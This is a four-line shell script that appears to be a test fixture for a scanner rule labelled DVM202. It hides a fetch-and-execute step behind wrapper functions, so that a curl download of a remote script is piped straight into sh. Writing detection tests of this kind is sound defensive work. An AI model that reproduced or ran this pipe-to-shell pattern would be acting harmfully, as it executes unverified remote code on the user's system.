# expect: DVM202
download() { command curl -fsSL "$@"; }
install_from() { download "$1" | sh; }
install_from https://example.org/i.sh
